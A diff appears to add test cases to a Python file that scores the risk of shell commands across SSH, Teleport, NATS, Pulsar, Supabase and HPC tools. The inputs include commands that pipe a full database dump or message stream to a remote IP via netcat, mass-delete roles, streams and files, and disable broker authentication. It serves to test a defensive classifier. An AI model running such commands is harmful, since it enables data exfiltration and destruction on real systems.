@@ -11176,6 +11176,153 @@ def test_clones_busy_loops_and_dry_runs(code: str, expected: RiskLevel) -> None:
             "find /var/backups -name '*.gz' -mtime +14 -delete\n",
             H,
         ),
+        # Round 95 (holdout672-679): remote output, tsh, tctl, brokers, BaaS, HPC, archives, config tests
+        (
+            "ssh root@pg-prod-01 'pg_dumpall' | gzip -c | nc 203.0.113.40 9001\n",
+            C,
+        ),
+        (
+            "ssh backup@db1 'pg_dump shop' > /backups/shop.sql\n",
+            L,
+        ),
+        (
+            "tsh ssh root@role=bastion 'pkill -9 -x sshd'\n",
+            H,
+        ),
+        (
+            "tsh ssh ubuntu@web-1 'uptime'\n",
+            S,
+        ),
+        (
+            'tctl auth export --keys --type=user > /tmp/ua\n',
+            H,
+        ),
+        (
+            'tctl auth export --type=host > host_ca.pub\n',
+            S,
+        ),
+        (
+            'tctl tokens add --type=node --ttl=8760h\n',
+            H,
+        ),
+        (
+            'tctl tokens add --type=node --ttl=30m\n',
+            S,
+        ),
+        (
+            "tctl get roles --format=json | jq -r '.[].metadata.name' | xargs -I{} tctl rm role/{}\n",
+            H,
+        ),
+        (
+            'boundary roles add-principals -id r_123 -principal u_anon\n',
+            H,
+        ),
+        (
+            "sudo find /var/lib/teleport/log -type f -name '*.log' -mtime -2 -delete\n",
+            H,
+        ),
+        (
+            "find /var/log/myapp -name '*.log' -mtime +30 -delete\n",
+            M,
+        ),
+        (
+            'nats --context prod stream ls -n | xargs -r -n1 nats --context prod stream rm -f\n',
+            H,
+        ),
+        (
+            "nats --context prod sub '>' --raw | nc 203.0.113.50 9000\n",
+            H,
+        ),
+        (
+            "pulsar-admin --admin-url http://localhost:8080 topics list public/default | grep '/bench-' | xar"
+            'gs -n1 pulsar-admin --admin-url http://localhost:8080 topics delete -f\n',
+            M,
+        ),
+        (
+            'pulsar tokens create --secret-key file:///opt/pulsar/keys/secret.key --subject bench > ~/.pulsar'
+            '/bench.jwt\n',
+            M,
+        ),
+        (
+            "sed -i 's/^authenticationEnabled=.*/authenticationEnabled=false/' /opt/pulsar/conf/broker.conf\n",
+            H,
+        ),
+        (
+            "find /pulsar/data/bookkeeper -type f -name '*.log' -delete\n",
+            H,
+        ),
+        (
+            'sudo nats-server -t -c /etc/nats/nats-server.conf\n',
+            M,
+        ),
+        (
+            'DEST=/backups/nats/orders-$(date +%F)\n'
+            'nats stream backup ORDERS "$DEST"\n'
+            'tar -C /backups/nats -czf "$DEST.tgz" "$(basename "$DEST")" && rm -rf "$DEST"\n',
+            M,
+        ),
+        (
+            'supabase secrets set STRIPE_KEY="$STRIPE_KEY"\n',
+            S,
+        ),
+        (
+            'yes | supabase db reset --linked\n',
+            H,
+        ),
+        (
+            'supabase db reset\n',
+            S,
+        ),
+        (
+            'docker run -d -p 0.0.0.0:8080:8080 -e HASURA_GRAPHQL_DATABASE_URL="$DB" hasura/graphql-engine:v2'
+            '.38.0\n',
+            H,
+        ),
+        (
+            'docker run -d -p 0.0.0.0:8080:8080 -e HASURA_GRAPHQL_DATABASE_URL="$DB" -e HASURA_GRAPHQL_ADMIN_'
+            'SECRET="$S" hasura/graphql-engine:v2.38.0\n',
+            S,
+        ),
+        (
+            'psql "$DATABASE_URL" -c \'grant service_role to authenticated;\'\n',
+            H,
+        ),
+        (
+            'lfs find /lustre/scratch -type f -print0 | xargs -0 rm -f\n',
+            H,
+        ),
+        (
+            'for j in $(qselect -s QRHW); do qdel -W force "$j"; done\n',
+            H,
+        ),
+        (
+            'for j in $(qselect -u "$USER"); do qdel "$j"; done\n',
+            S,
+        ),
+        (
+            'lctl nodemap_activate 0\n',
+            H,
+        ),
+        (
+            'condor_off -pool cm.hpc -all -fast -daemon startd\n',
+            H,
+        ),
+        (
+            'sudo /usr/lpp/mmfs/bin/mmcrsnapshot fs1 snap1\n',
+            M,
+        ),
+        (
+            'sudo chmod g+s /gpfs/fs1/projects/astro/shared\n',
+            M,
+        ),
+        (
+            'sudo mosquitto -c /etc/mosquitto/mosquitto.conf -t\n',
+            M,
+        ),
+        (
+            'nuke -t shots/comp/KST_0420_comp_v012.nk | curl -d @- https://render.example.net/in\n',
+            L,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
